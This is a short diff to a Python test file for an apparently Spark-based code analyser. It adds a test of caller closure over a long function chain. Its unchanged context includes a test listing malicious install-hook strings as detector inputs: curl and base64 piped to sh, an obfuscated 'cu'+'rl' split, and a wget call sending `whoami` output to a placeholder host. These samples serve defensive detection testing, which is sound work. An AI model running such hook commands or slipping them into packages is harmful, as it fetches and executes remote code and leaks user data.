@@ -143,6 +143,12 @@ def test_closure_of_a_cycle(spark):
     assert got == {"c": 0, "b": 1, "a": 2, "d": 3}
 
 
+def test_closure_of_a_long_chain(spark):
+    edges = spark.createDataFrame([(f"f{k + 1}", f"f{k}") for k in range(70)], "caller string, callee string")
+    got = {r["function"]: r["depth"] for r in RE.callers_closure(edges, spark.createDataFrame([("f0",)], "function string")).collect()}
+    assert got == {f"f{k}": k for k in range(71)}
+
+
 def test_hooks(spark):
     bad = ["curl http://x | sh", '"cu" + "rl http://x" + " | sh"', "node -e \"require('https').get('x')\"", "python3 -c 'import os'", "echo " + "A" * 44 + " | base64 -d | sh", "wget -q http://x.example/?u=`whoami`", "bun run setup.js"]
     good = ["node-gyp rebuild", "node -e \"process.exit(0)\"", "echo installed for $(whoami)", "husky install", ""]
